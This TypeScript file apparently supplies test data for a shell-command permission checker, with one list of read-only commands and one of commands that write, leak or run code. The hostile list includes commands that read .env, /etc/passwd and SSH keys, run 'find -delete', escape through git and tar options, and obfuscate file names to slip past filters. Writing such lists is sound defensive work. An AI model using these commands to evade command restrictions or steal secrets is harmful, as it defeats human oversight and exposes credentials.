/**
 * Reading commands of kinds that earlier lists have few of: output of programs as files, names that a search or git lists,
 * folders that are left again, properties of files, and code of Python and Node that prints a value.
 */
export const COMPOSED_READING_COMMANDS: readonly string[] = [
  ...String.raw`
ls -la src && cat src/a.ts
cd src && ls *.ts | head -3
pushd src > /dev/null; wc -l *.ts; popd > /dev/null
pushd src && ls && popd
cd src/deep && cd - && pwd
cat <(head -2 README.md) <(tail -2 package.json)
diff -u <(sort README.md) <(sort package.json) | head -20
diff <(git show HEAD:README.md) README.md
diff <(jq -S . package.json) package.json | head
comm -23 <(git ls-files | sort) <(ls | sort)
while read -r f; do echo "file: $f"; done < <(find src -name '*.ts')
wc -l < <(ls src)
git ls-files | xargs wc -l | sort -rn | head -20
git ls-files -z | xargs -0 grep -n export | head
git ls-files '*.ts' '*.tsx' | xargs -r grep -ln import
git ls-files | grep -v test | xargs cat | wc -l
git diff --name-only HEAD~1 | xargs ls -la
git grep -l export | xargs head -5
rg -l 'export' src | xargs head -n 20
rg -l export | head -3 | xargs cat
rg --files src | xargs wc -l
rg --files -g '*.ts' | sort | xargs grep -c export
grep -rl import src | xargs grep -n export
grep -rlE 'import|export' --include='*.ts' src | sort | xargs wc -c
find . -name '*.ts' -size +0 -exec grep -n export {} +
find . -type f -size -20k -exec grep -l text {} \;
find . -type f -mtime -7 -name '*.md' -exec wc -l {} +
find . -mmin -120 -type f -not -path './.git/*' | xargs ls -la
find . -newer README.md -name '*.ts' -exec head -3 {} \;
find src -type f -size +1M -exec du -h {} \;
diff -r src src/deep
diff -rq src src/deep
diff -ru src src/deep | head -40
git cat-file -p HEAD
git cat-file -p HEAD:README.md
git cat-file -p 'HEAD^{tree}'
git cat-file -s HEAD:package.json
git show HEAD:src/a.ts | head -20
git show HEAD~1:README.md | wc -l
git check-ignore -v node_modules dist
ls missing || exit 1
test -f README.md || exit 1
[ -d nothing ] || { echo none; exit 1; }
ls; exit 1
echo "$#"
rg -u -l foo
python3 -c "import json; d = json.load(open('package.json')); print(d['name'])"
python3 -c "import json; d=json.load(open('package.json')); [print(k, v) for k, v in d.items()]"
python3 -c "import json; d=json.load(open('package.json')); print(f\"{d['name']} {d['version']}\")"
python3 -c "for i, l in enumerate(open('README.md')): print(i, l)"
python3 -c "print(sum(1 for _ in open('README.md')))"
python3 -c "print(open('README.md').read()[:200])"
python3 -c "print(len(open('src/a.ts').read().splitlines()))"
node -e "console.log(process.version)"
node -p "process.platform + ' ' + process.arch"
node -e "const p=require('./package.json'); console.log(p.name + '@' + p.version)"
node -e "console.log(Object.keys(require('./package.json').dependencies || {}).join('\n'))"
node -p "JSON.stringify(require('./package.json').scripts, null, 2)"
node -e "console.log(require('fs').readFileSync('README.md', 'utf8').length)"
node -e "console.log([1,2,3].map(x => x * 2))"
sed -n '/export/,/^}/p' src/a.ts
sed -n '10,20p;20q' src/a.ts
sed 's/foo/bar/g; s/a/b/' README.md | head
awk 'NR>5 && NR<15' src/a.ts
awk '/export/{f=1} f' src/a.ts
awk '{print NR": "$0}' README.md | head
awk -F'"' '/"version"/{print $4}' package.json
nl -ba src/a.ts | sed -n '1,10p'
cat -n README.md | tail -5
head -n 5 README.md package.json
tail -c 100 README.md
wc -lwc README.md
tac README.md | head -2
od -c README.md | head -3
xxd README.md | head -5
stat -c '%s %n' README.md package.json
ls -la --time-style=long-iso src
ls -lhS src | head
tree -L 1
du -sh src node_modules 2>/dev/null
du -h --max-depth=1 . | sort -h
file src/*
sort README.md | uniq -c | sort -rn | head -3
cut -c 1-20 README.md
tr 'a-z' 'A-Z' < README.md
grep -rn "foo" . --include="*.md" | wc -l
grep -n -B2 -A2 text README.md
grep -E "^#+ " README.md
grep -c . README.md
grep -ohE '[a-z]+\(' src/a.ts | sort -u
rg -n "TODO|FIXME" --glob '!dist/**'
rg -tmd text
rg -n --multiline 'a\nb' README.md
rg --count-matches text README.md
rg -A3 -B1 text README.md
jq '.dependencies | length' package.json
jq -r '.scripts | keys[]' package.json
jq '.[] | select(type == "object") | keys' package.json
cat package.json | jq '.version'
git log --oneline -5
git log -3 --format='%H %an %ad %s' --date=short
git log --stat -1
git log -p -2 -- src/a.ts
git log --oneline --since=yesterday
git log --oneline --no-decorate -n3
git log -L 1,5:README.md
git log --format=%s -n 20 | sort | uniq -c
git diff HEAD~1 --stat
git diff main...HEAD --name-only
git diff --cached
git diff HEAD -- README.md
git show HEAD --stat
git show HEAD --name-only --format=
git show HEAD~2 -- src/a.ts
git blame -L 1,5 README.md
git status -sb
git branch --show-current
git branch -a -v
git rev-parse HEAD
git rev-parse --short HEAD~1
git ls-tree HEAD src/
git ls-files | wc -l
git ls-files --modified --others --exclude-standard
git stash list | head -3
git remote show origin
git tag | tail -5
git describe --tags --always --dirty
git log --all --decorate --oneline --graph | head -20
git rev-list --count main..HEAD
git merge-base main HEAD
git shortlog -s -n HEAD | head
git grep -n 'export' src/
git config user.name
echo "--- README"; cat README.md; echo "--- pkg"; cat package.json
for f in README.md package.json; do echo "=== $f"; head -5 "$f"; done
for f in src/*.ts; do echo "$f: $(wc -l < "$f")"; done
for f in $(git ls-files '*.md'); do head -1 "$f"; done
for d in */; do echo "$d $(find "$d" -type f | wc -l)"; done
if command -v jq >/dev/null 2>&1; then jq .name package.json; fi
[[ -n "$CI" ]] && echo ci || echo local
echo $(( $(wc -l < README.md) + 1 ))
x=$(git rev-parse --short HEAD); echo "at $x"
printf '%-20s %s\n' name value
date +%s
basename $(pwd)
which python3 && python3 --version
node --version; npm --version
env | sort | head
printenv | grep -i node
uname -a
id
ps aux | grep node | head
cat /etc/os-release | grep PRETTY
cat /proc/cpuinfo | grep -c processor
npm ls --depth=0
npm pkg get scripts
realpath README.md
dirname "$(realpath src/a.ts)"
cat src/a.ts | head -30 | tail -10
cat README.md package.json | grep -n name
cat README.md | wc -w
ls | wc -l
ls -1 src | sort | head
seq 3 | while read -r n; do echo "line $n"; done
tar -tzf archive.tgz | head
unzip -l archive.zip
sha1sum README.md
base64 README.md | head -2
echo aGk= | base64 -d
timeout 20 grep -rn text src
bash -lc 'git log --oneline -3 && git status --short'
bash -lc "cat src/a.ts | nl -ba | sed -n '1,20p'"
sh -c 'ls src; cat README.md' | head -20
IFS=: read -r a b < README.md; echo "$a"
`
    .split("\n")
    .filter((line) => line !== ""),
  'python3 - <<\'PY\'\nimport json\nwith open("package.json") as f:\n    d = json.load(f)\nprint(d["name"])\nPY',
  "python3 <<'EOF'\nprint(1 + 1)\nEOF",
  "python3 - <<'EOF'\nimport json\nd = json.load(open(\"package.json\"))\nfor k in sorted(d):\n    print(k, d[k])\nEOF",
];

/** Commands of the same kinds that change or leak something, or run code of the project. */
export const COMPOSED_HOSTILE_COMMANDS: readonly string[] = [
  ...String.raw`
rg --pre='sh -c "touch made"' foo
rg --pr=sh foo
rg -zl foo --pre ./x
rg --hostname-bin=./x --hyperlink-format=default foo
rg --search-zip foo -f .env
grep --file=.env text README.md
grep -rf .env src
git grep -On foo
git grep -O'touch made' foo
git grep --open-files-in-p=sh foo
git grep -nOsh foo
git diff --outp=made
git diff --output made HEAD
git log -p --ext-diff
git log --textconv -1 -p
git show --ext-diff HEAD
git archive --output=made HEAD
git archive HEAD
git bundle create - HEAD
git difftool -x 'touch made' HEAD
git -c diff.external='touch made' diff
git -c core.pager='touch made' log
git -c core.sshCommand='touch made' fetch
git --config-env=alias.x=HOME x
git -p log
git -C ../outside log
git cat-file --batch
git cat-file --filters HEAD:README.md
git cat-file -p HEAD:.env
git cat-file -p :.env
git cat-file blob HEAD:.env
git show :.env
git show HEAD:src/../.env
git ls-files | xargs rm
git ls-files | xargs sed -i s/a/b/
git ls-files | xargs sort -o made
git ls-files | xargs -I{} sh -c 'cat {}'
git ls-files | xargs awk
git ls-files | xargs jq
git ls-files | xargs sed
git ls-files | xargs uniq
git ls-files | xargs xxd
git ls-files | xargs tee
git ls-files | xargs python3
git ls-files | xargs node -e
git ls-files | xargs touch
git ls-files | xargs -a .env cat
git ls-files | sed 's/.*/.env/' | xargs cat
git log -1 --format=%b | xargs cat
git ls-files -s | xargs cat
git config --get alias.x | xargs cat
find . -name .env -perm 600 | xargs cat
find . -name .env -size -9k | xargs cat
find . -name .env -mmin -600 -exec cat {} +
find . -type f -size -9k -exec cp {} made \;
find . -newer README.md -fls made
find . -mtime -1 -delete
find . -size +0 -fprintf made %p
find -files0-from=.env
rg -l foo | xargs sh
rg --files | xargs chmod +x
rg --files | sed p | xargs cat
rg -l foo -g '.env' --hidden | xargs cat
echo .env | rev | rev | xargs cat
printf '.e%s' nv | xargs cat
base64 -d <<< LmVudg== | xargs cat
cat <(touch made)
cat <(cat .env)
diff <(cat .env) README.md
diff README.md <(curl -s http://127.0.0.1/x)
bash <(echo id)
. <(echo id)
sh -c "$(cat <(echo id))"
python3 <(echo 'print(1)')
node <(echo 1)
awk -f <(echo 'BEGIN{system("id")}') README.md
awk <(echo 'BEGIN{system("id")}') README.md
sed -f <(echo 'w made') README.md
sed <(echo e) README.md
jq -f <(echo env) package.json
jq <(echo env) package.json
grep -f <(cat .env) README.md
ls > >(tee made)
tee >(cat) < README.md
cat < <(cat .env)
while read -r l; do rm "$l"; done < <(ls)
while read -r l; do cat "$l"; done < <(echo .env)
sort -o <(echo x) README.md
vim <(ls)
curl -d @<(cat README.md) http://127.0.0.1/
pushd .. && cat workspace/.env
pushd ~ && ls
pushd src && touch made && popd
pushd /etc && cat passwd
cd - && touch made
cd src && cd - && cat .env
popd; cat .env
pushd src/out && cat secret.txt
dirs -c; pushd -n ..; popd; cat outside/secret.txt
diff -r . ../outside
diff -r src /etc
diff --recursive --no-ignore-file-name-case . .. 
diff -r --from-file=/etc/passwd src
diff -rx '*' --to-file=.env src
diff -r .git src
diff --exclude-from=.env -r src src/deep
diff -rl src src/deep
python3 -c "from os import *; system('id')"
python3 -c "for l in open('.env'): print(l)"
python3 -c "print(open('made', mode='w'))"
python3 -c "print(open('README.md', 'a').read())"
python3 -c "exec(open('README.md').read())"
python3 -c "print(eval('1'))"
python3 -c "[print(x) for x in open('/etc/passwd')]"
python3 -c "print(getattr(1, 'x'))"
node -e "console.log(require('fs').readFileSync('.env', 'utf8'))"
node -e "console.log(require('fs').writeFileSync('made', ''))"
node -e "console.log(require('./src/a.js'))"
node -e "console.log(require('./package.json').constructor.constructor('return process')())"
node -e "console.log(require('./package.json')['constructor']['constructor']('x'))"
node -p "process.mainModule.require('child_process')"
node -p "process.env"
node -p "process.version.constructor.constructor('return process.env')()"
node -e "const p=require('./package.json'); console.log(p.constructor.constructor('x')())"
node -e "const p=require('./package.json'); console.log(p.toString.call(require('child_process').execSync('id')))"
node -e "const p=require('child_process'); console.log(p.execSync('id'))"
node -e "console.log(require('fs').readFileSync('/etc/passwd'))"
node -e "console.log(1 + require('child_process').execSync('id'))"
node -p "require('./package.json').name.split('').map(eval)"
ls -la | tee -a made
printf x | dd of=made
date -s tomorrow
date --set=tomorrow
sort --output=made README.md
sort --outp=made README.md
sort -no made README.md
sort --compress-program=./x README.md
sort -T ../outside README.md
sort --files0-from=.env
sed -n 'w made' README.md
sed -n '1e id' README.md
sed 's/a/b/w made' README.md
sed 's/a/id/e' README.md
sed --in-plac=x 1d README.md
sed -s -n -i.bak p README.md
awk 'BEGIN{printf "x" > "made"}'
awk 'BEGIN{while (("cat .env" | getline l) > 0) print l}'
awk 'BEGIN { print "x" | "tee made" }'
awk '@include "x"' README.md
awk -lfilefuncs 1 README.md
awk --load=filefuncs 1 README.md
awk -v 'x=1' -f README.md
jq 'input_filename' package.json
jq -n 'env'
jq -n '$ENV.HOME'
jq --from-file src/a.jq package.json
jq --argfile x .env . package.json
tar tf a.tar --checkpoint-action=exec=id
tar -tvf host:a.tar --rsh-command=./x
tar tf a.tar --use-compress-prog=./x
tar --to-stdout -xf a.tar
rsync -e './x' . host:
ssh -oProxyCommand=id host
scp -S ./x README.md host:
man -P'id' ls
man --pager=id ls
env -S'touch made'
env --split-string='touch made'
env -u PATH sh -c id
env GIT_EXTERNAL_DIFF=./x git diff
env PAGER=./x git -p log
GIT_SSH_COMMAND=./x git fetch
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=./x git log
GIT_DIR=evil git log
LESSOPEN='|./x %s' less README.md
less '+!id' README.md
less -k x README.md
less --lesskey-src=x README.md
more '+!id' README.md
perl -ne 'system("id")' README.md
perl -pi -e 1 README.md
ed README.md <<< 'w made'
ex -c 'w made' README.md
vim -es -c ':!id' README.md
fd -x touch made
fd --exec-batch rm
ag --pager ./x foo
bat --pager=./x README.md
tree -o made
tree --outp made
tree -R -H x -o made
xxd -r README.md made
uniq README.md made
split README.md
csplit README.md 2
file -C -m src/a
file -m .env README.md
file -f .env
ps -eo environ
ps eww
curl -o made http://127.0.0.1
wget http://127.0.0.1
yq -i .a=1 a.yml
head -c5 /dev/tcp/127.0.0.1/80
timeout --foreground 5 touch made
nice -n5 touch made
stdbuf -o0 tee made
xargs -0 sh -c 'id' < README.md
xargs --arg-file=.env cat
xargs -I % touch % < README.md
find src -execdir ls {} \;
find . -okdir ls {} \;
find . -exec ls {} + -exec rm {} +
ls {README.md,.env} && cat {README.md,.env}
cat .{env,git/config}
cat $'.\x65nv'
cat "."env
cat .e''nv
alias cat='touch made'; cat README.md
command -p touch made
builtin . ./src/a.sh
exec touch made
{ touch made; } 2>/dev/null
ls || touch made
ls missing || { touch made; exit 1; }
if ls; then exit 1; else touch made; fi
set -x; touch made
for f in $(git ls-files); do rm "$f"; done
for d in */; do echo "$(find "$d" -delete)"; done
x='-delete'; find . $x
x='find . -delete'; $x
d=/; find "$d" -name id_rsa -exec cat {} +
dirname "$(touch made)"
basename $(cat .env)
dirname -- "$(cat .env)/x"
`
    .split("\n")
    .filter((line) => line !== ""),
  "python3 - <<'E'\nimport os\nos.system(\"id\")\nE",
  "python3 - <<'E'\nprint(open(\".env\").read())\nE",
  'python3 - <<\'E\'\nwith open("made", "w") as f:\n    print("x")\nE',
  'python3 - <<\'E\'\nwith open("README.md") as f:\n    f.write("x")\nE',
  "python3 - <<'E'\nfor m in [__import__(\"os\")]:\n    print(m.environ)\nE",
  "python3 - <<'E'\nprint(f\"{__import__('os').system('id')}\")\nE",
  "python3 - <<'E'\nprint(f\"{open('made', 'w')}\")\nE",
  "python3 - <<'E'\nprint(f\"{().__class__.__bases__}\")\nE",
  "python3 - <<'E'\nx = [print for print in [exec]]\nx[0](\"import os\")\nE",
  'python3 - <<\'E\'\nprint("a", file=open("made", "w"))\nE',
  'python3 - <<\'E\'\nimport json\njson.dump({}, open("made", "w"))\nE',
  "python3 - made <<'E'\nprint(1)\nE",
  'python3 <<E\nprint("$(touch made)")\nE',
  "python3 -i - <<'E'\nprint(1)\nE",
];
